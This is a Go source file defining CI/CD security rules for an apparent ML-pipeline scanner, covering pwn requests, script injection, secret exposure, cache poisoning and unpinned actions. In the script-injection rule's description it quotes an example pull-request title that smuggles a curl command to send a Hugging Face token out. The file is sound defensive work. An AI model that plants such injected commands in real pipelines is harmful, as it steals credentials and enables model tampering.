package rules

import "github.com/mlsec/mlsec/internal/rule"

// Rules about CI/CD pipelines (GitHub Actions, GitLab CI) that train, evaluate, publish and deploy models: the
// system that holds the cloud, Hub and registry keys. Image pinning, curl|sh and extra package indexes in a
// pipeline are the supply-chain and deps rules, reported where they are met.

// CIUntrustedCheckout is a privileged workflow that runs code from a pull request.
var CIUntrustedCheckout = &rule.Rule{
	ID:          "ci/untrusted-checkout",
	Title:       "Privileged workflow runs code from a pull request",
	Severity:    rule.Critical,
	Confidence:  rule.HighConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0010.001", "AML.T0055", "AML.T0018"},
	Mitigations: []string{"AML.M0005", "AML.M0013"},
	Summary:     "Anyone who opens a pull request runs code with the workflow's secrets and write token (a \"pwn request\").",
	Description: "`pull_request_target`, `workflow_run`, `issue_comment` and the other comment and review triggers run " +
		"in the base repository's context: secrets, a token that can write, caches shared with the default branch. " +
		"Checking out the pull request's head (`ref: ${{ github.event.pull_request.head.sha }}`, `gh pr checkout`, " +
		"`refs/pull/N/head`) or downloading the triggering run's artifacts and then running anything from them hands " +
		"that context to the author of the pull request. In an ML repository the thing run is rarely obvious: " +
		"`pip install -e .` runs setup.py, `pytest` imports conftest.py, `dvc repro` runs every stage's command, " +
		"`mlflow run`, `papermill`, `jupyter nbconvert --execute`, `accelerate launch`, `torchrun`, `deepspeed`, " +
		"`pre-commit`, `uv run`, `poetry install`, `make` and local actions (`uses: ./…`) all execute files the pull " +
		"request controls. With HF_TOKEN or cloud keys in reach the attacker can replace the published model.",
	Fix: "Run untrusted code under `pull_request` (no secrets, read-only token) and move the privileged part to a " +
		"separate workflow that only consumes data (not code) from it; if the head must be checked out, do not run " +
		"anything from it in the privileged job, and gate the job on an environment with required reviewers.",
	References: []string{
		"https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
		"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions",
	},
	Peers: []string{"zizmor:dangerous-triggers", "poutine:untrusted_checkout_exec"},
}

// CIScriptInjection is attacker-controlled text expanded into a script.
var CIScriptInjection = &rule.Rule{
	ID:          "ci/script-injection",
	Title:       "Attacker-controlled text expanded into a CI script",
	Severity:    rule.High,
	Confidence:  rule.HighConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0050", "AML.T0055"},
	Mitigations: []string{"AML.M0005"},
	Summary:     "An issue title, branch name, commit message or pull-request body becomes shell code in the pipeline.",
	Description: "GitHub substitutes `${{ … }}` into a `run:` script or an `actions/github-script` script before the " +
		"shell or Node sees it, so a pull-request title such as `x\"; curl -d @$HOME/.cache/huggingface/token … #` " +
		"runs as code in a job that may hold Hub, Weights & Biases or cloud credentials. GitLab expands " +
		"`$CI_MERGE_REQUEST_TITLE`, `$CI_COMMIT_MESSAGE` and branch names safely in a quoted word, but not when the " +
		"script hands them to `eval`, `sh -c` or puts them in command position: the shell then parses them again.",
	Fix: "Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and " +
		"use it quoted (`\"$TITLE\"`); never `eval` it or build a `sh -c` string from it.",
	References: []string{
		"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
		"https://docs.gitlab.com/ci/variables/predefined_variables/",
	},
	Peers: []string{"zizmor:template-injection", "poutine:injection"},
}

// CISecretsExposed is a secret within reach of untrusted code.
var CISecretsExposed = &rule.Rule{
	ID:          "ci/secrets-exposed-to-untrusted",
	Title:       "Pipeline secrets reachable by untrusted code",
	Severity:    rule.High,
	Confidence:  rule.MediumConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0055", "AML.T0010.003"},
	Mitigations: []string{"AML.M0005"},
	Summary:     "Hub, experiment-tracking or cloud credentials are in the environment of a job that runs pull-request code.",
	Description: "A job that runs code from a pull request (or from a merge request's source branch) and also has " +
		"`HF_TOKEN`, `WANDB_API_KEY`, cloud keys or every secret (`secrets: inherit`, `toJSON(secrets)`) in its " +
		"environment lets the pull request's author read them: one `print(os.environ)` in a test is enough. A " +
		"Hub write token lets them replace the published model or dataset; a cloud key reaches the training " +
		"buckets and the model registry.",
	Fix: "Keep secrets out of jobs that run untrusted code: split the job, pass named secrets only to the step " +
		"that needs them, replace `secrets: inherit` with the secrets the called workflow needs, and protect " +
		"GitLab variables so that only protected branches and tags see them.",
	References: []string{
		"https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions",
		"https://docs.gitlab.com/ci/pipelines/merge_request_pipelines/#use-with-forked-projects",
	},
	Peers: []string{"zizmor:secrets-inherit", "zizmor:overprovisioned-secrets", "poutine:job_all_secrets"},
}

// CILongLivedCloudKey is a static cloud key where OIDC federation would do.
var CILongLivedCloudKey = &rule.Rule{
	ID:          "ci/long-lived-cloud-key",
	Title:       "Long-lived cloud key in a pipeline where OIDC would do",
	Severity:    rule.Medium,
	Confidence:  rule.HighConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0055", "AML.T0012"},
	Mitigations: []string{"AML.M0005"},
	Summary:     "A static access key that reaches training data and models lives in CI settings; once leaked it works from anywhere until rotated.",
	Description: "AWS access keys, Google service-account JSON keys and Azure client secrets stored as CI secrets " +
		"do not expire and are not bound to the repository, branch or environment that uses them. GitHub Actions " +
		"and GitLab CI can both exchange a short-lived OIDC token for cloud credentials scoped to one repository " +
		"and branch (`aws-actions/configure-aws-credentials` with `role-to-assume`, `google-github-actions/auth` " +
		"with `workload_identity_provider`, `azure/login` with `client-id`; GitLab `id_tokens:`).",
	Fix: "Federate the pipeline with the cloud (OIDC) and grant the role only what the job needs; delete the static key.",
	References: []string{
		"https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect",
		"https://docs.gitlab.com/ci/cloud_services/",
	},
}

// CISecretOnCommandLine is a secret written into a command line.
var CISecretOnCommandLine = &rule.Rule{
	ID:          "ci/secret-on-command-line",
	Title:       "Secret written into a CI command line",
	Severity:    rule.Medium,
	Confidence:  rule.HighConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0055"},
	Mitigations: []string{"AML.M0005"},
	Summary:     "The token is visible in the process list of the runner, in shell traces and in the script file the runner writes.",
	Description: "`huggingface-cli login --token ${{ secrets.HF_TOKEN }}`, `wandb login $WANDB_API_KEY` or " +
		"`docker login -p …` put the credential in the arguments of a process, which every process on a shared or " +
		"self-hosted runner can read, and `set -x` prints. On GitHub the secret is substituted into the script " +
		"text itself, which is written to disk and escapes log masking once transformed (base64, URL-encoded).",
	Fix: "Pass the secret in the environment (`env: HF_TOKEN: ${{ secrets.HF_TOKEN }}`): huggingface_hub, wandb " +
		"and the cloud CLIs read it from there; use `--password-stdin` for `docker login`.",
	References: []string{
		"https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions#using-secrets-in-a-workflow",
	},
}

// CIPersistCredentials is a checkout that leaves the token in .git/config.
var CIPersistCredentials = &rule.Rule{
	ID:          "ci/persist-credentials",
	Title:       "Checkout leaves the repository token on disk for later steps",
	Severity:    rule.Medium,
	Confidence:  rule.HighConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0055"},
	Mitigations: []string{"AML.M0005"},
	Summary:     "actions/checkout writes the job's token into .git/config, where untrusted code or an uploaded artifact can take it.",
	Description: "Unless `persist-credentials: false` is set, `actions/checkout` stores the GITHUB_TOKEN in the " +
		"checkout's `.git/config` for the rest of the job. Code run later from the pull request reads it there, " +
		"and an artifact uploaded from the workspace (`path: .`) publishes it to anyone who can download the run's " +
		"artifacts.",
	Fix: "Set `persist-credentials: false` on actions/checkout and pass a token explicitly to the one step that pushes.",
	References: []string{
		"https://github.com/actions/checkout#usage",
		"https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/",
	},
	Peers: []string{"zizmor:artipacked"},
}

// CIExcessivePermissions is a workflow token with more rights than needed.
var CIExcessivePermissions = &rule.Rule{
	ID:          "ci/excessive-permissions",
	Title:       "Workflow token with broad write permissions",
	Severity:    rule.Medium,
	Confidence:  rule.MediumConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0055", "AML.T0010.001"},
	Mitigations: []string{"AML.M0005"},
	Summary:     "A compromised step can push code, tags, packages and releases with the job's own token.",
	Description: "`permissions: write-all` gives the GITHUB_TOKEN every write scope; a workflow on a privileged " +
		"trigger (`pull_request_target`, `workflow_run`, `issue_comment`) without any `permissions:` block gets the " +
		"repository's default, which on older repositories and organisations is read-write. Whatever runs in such " +
		"a job can push to the branch the next training or release run builds from.",
	Fix: "Declare `permissions: {}` or `contents: read` at the top of the workflow and grant write scopes per job, only where needed.",
	References: []string{
		"https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token",
	},
	Peers: []string{"zizmor:excessive-permissions", "poutine:default_permissions_on_risky_events"},
}

// CIUnpinnedAction is a third-party action used by a mutable tag.
var CIUnpinnedAction = &rule.Rule{
	ID:          "ci/unpinned-action",
	Title:       "Third-party action not pinned to a commit",
	Severity:    rule.Low,
	Confidence:  rule.HighConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0010.001"},
	Mitigations: []string{"AML.M0013", "AML.M0023"},
	Summary:     "Whoever controls the action's tag decides what runs next to the pipeline's secrets.",
	Description: "`uses: owner/action@v2` or `@main` follows a tag or branch its owner (or whoever compromises the " +
		"owner, as with tj-actions/changed-files in 2025) can move. The action runs with the job's secrets and " +
		"token; in a training or publishing job that is the Hub token and the cloud role. More severe where the " +
		"job holds secrets or write permissions.",
	Fix: "Pin to the full 40-character commit SHA (`uses: owner/action@<sha> # v2.1.0`) and let Dependabot or Renovate update it.",
	References: []string{
		"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions",
	},
	Peers:          []string{"zizmor:unpinned-uses", "poutine:unpinned_action"},
	OnePerEvidence: true,
}

// CIRuntimeInstallUnpinned is an unpinned package installed in a privileged job.
var CIRuntimeInstallUnpinned = &rule.Rule{
	ID:          "ci/runtime-install-unpinned",
	Title:       "Unpinned packages installed at run time in a job that holds secrets",
	Severity:    rule.Low,
	Confidence:  rule.MediumConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0010.001", "AML.T0011.001"},
	Mitigations: []string{"AML.M0023"},
	Summary:     "Each run installs whatever the index serves that minute, with the job's Hub, tracking and cloud keys in the environment.",
	Description: "`pip install transformers huggingface_hub` without versions or hashes in a publishing or training " +
		"job runs the newest release's install hooks and import-time code next to the job's credentials; a " +
		"compromised or typo-squatted release (the PyTorch torchtriton incident) gets them.",
	Fix: "Install from a lock file with hashes (`pip install --require-hashes -r requirements.lock`, `uv sync --locked`) or pin exact versions.",
	References: []string{
		"https://pip.pypa.io/en/stable/topics/secure-installs/",
		"https://pytorch.org/blog/compromised-nightly-dependency/",
	},
}

// CICachePoisoning is a cache restored where an attacker can have written it.
var CICachePoisoning = &rule.Rule{
	ID:          "ci/cache-poisoning",
	Title:       "Cache restored in a privileged or publishing job",
	Severity:    rule.Medium,
	Confidence:  rule.MediumConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0010.001", "AML.T0018"},
	Mitigations: []string{"AML.M0014"},
	Summary:     "A cache an untrusted run could write is restored into a job that publishes models or holds secrets.",
	Description: "GitHub shares caches between workflow runs of the default branch and runs triggered by " +
		"`pull_request_target` or `workflow_run`; a job that runs pull-request code there can save a cache (a pip " +
		"wheel cache, a Hugging Face model cache, a preprocessed dataset) that the next release or training job " +
		"restores and trusts. A release or model-publishing job that restores a cache publishes whatever the cache held.",
	Fix: "Do not cache in workflows on privileged triggers; in release and publishing jobs build from scratch or key " +
		"the cache on a lock-file hash written only by protected branches (`lookup-only`, separate cache keys).",
	References: []string{
		"https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/",
	},
	Peers: []string{"zizmor:cache-poisoning"},
}

// CIModelPublishUntrusted is a model or dataset published where untrusted input reaches.
var CIModelPublishUntrusted = &rule.Rule{
	ID:          "ci/model-publish-untrusted",
	Title:       "Model or dataset published from a job untrusted input reaches",
	Severity:    rule.High,
	Confidence:  rule.MediumConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0010.003", "AML.T0018", "AML.T0019"},
	Mitigations: []string{"AML.M0014", "AML.M0013"},
	Summary:     "A pull request, a poisoned cache or a forged artifact decides what is uploaded to the Hub, the model registry or the bucket.",
	Description: "`huggingface-cli upload`, `push_to_hub`, `mlflow … register`, `aws s3 cp|sync`, `gsutil cp` or a " +
		"SageMaker/Vertex deployment in a job that runs on a pull-request trigger, after checking out pull-request " +
		"code, or after restoring a cache or the artifacts of another run publishes what that input made: a " +
		"backdoored model or poisoned dataset under the project's name.",
	Fix: "Publish only from jobs on protected branches or tags, build the artifact in the same trusted job (no " +
		"caches or artifacts from untrusted runs), and sign or attest it before upload.",
	References: []string{
		"https://huggingface.co/docs/huggingface_hub/guides/upload",
	},
}

// CIPublishWithoutVerification is a publishing job with no scan, signature or attestation.
var CIPublishWithoutVerification = &rule.Rule{
	ID:          "ci/publish-without-verification",
	Title:       "Model published without a scan, signature or attestation",
	Severity:    rule.Medium,
	Confidence:  rule.MediumConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0010.003", "AML.T0018"},
	Mitigations: []string{"AML.M0013", "AML.M0014"},
	Summary:     "Nothing lets consumers tell the model this pipeline built from one an attacker swapped in (missing mitigation).",
	Description: "The job uploads or deploys a model but runs no model scan (mlsec, modelscan, picklescan, fickling), " +
		"no signature (model_signing, cosign, sigstore) and no provenance attestation " +
		"(`actions/attest-build-provenance`) before it. A model altered anywhere between training and upload, or " +
		"in the registry afterwards, is served as if the pipeline had made it (ATLAS AML.M0013 Code Signing, " +
		"AML.M0014 Verify AI Artifacts).",
	Fix: "Scan the model files before upload, sign them (`model_signing sign`, `cosign sign-blob`) or attest their " +
		"provenance, and verify the signature where the model is loaded.",
	References: []string{
		"https://github.com/sigstore/model-transparency",
		"https://github.com/actions/attest-build-provenance",
	},
}

// CISelfHostedRunnerPR is a self-hosted or GPU runner that runs pull-request code.
var CISelfHostedRunnerPR = &rule.Rule{
	ID:          "ci/self-hosted-runner-pr",
	Title:       "Self-hosted or GPU runner runs pull-request code",
	Severity:    rule.High,
	Confidence:  rule.MediumConfidence,
	Phase:       rule.Development,
	Techniques:  []string{"AML.T0034", "AML.T0010.001", "AML.T0055"},
	Mitigations: []string{"AML.M0005"},
	Summary:     "A fork's pull request runs on the project's own GPU machine: free compute for the attacker and a foothold that outlives the job.",
	Description: "Self-hosted runners are not wiped between jobs: a pull request from a fork can mine on the GPUs " +
		"(cost harvesting), leave a process or a poisoned model cache behind for the next training job, and read " +
		"whatever the machine's cloud role, mounted datasets and Docker socket give. GitHub recommends never using " +
		"self-hosted runners on public repositories; GitLab's tagged runners on merge-request pipelines are the same risk.",
	Fix: "Run pull-request jobs on ephemeral hosted runners; keep GPU and self-hosted runners for trusted branches, " +
		"or require approval for fork workflows and use ephemeral (just-in-time) runners.",
	References: []string{
		"https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security",
	},
	Peers: []string{"zizmor:self-hosted-runner", "poutine:pr_runs_on_self_hosted"},
}

// CIRules are the rules of the ci family.
var CIRules = []*rule.Rule{CIUntrustedCheckout, CIScriptInjection, CISecretsExposed, CILongLivedCloudKey, CISecretOnCommandLine,
	CIPersistCredentials, CIExcessivePermissions, CIUnpinnedAction, CIRuntimeInstallUnpinned, CICachePoisoning,
	CIModelPublishUntrusted, CIPublishWithoutVerification, CISelfHostedRunnerPR}
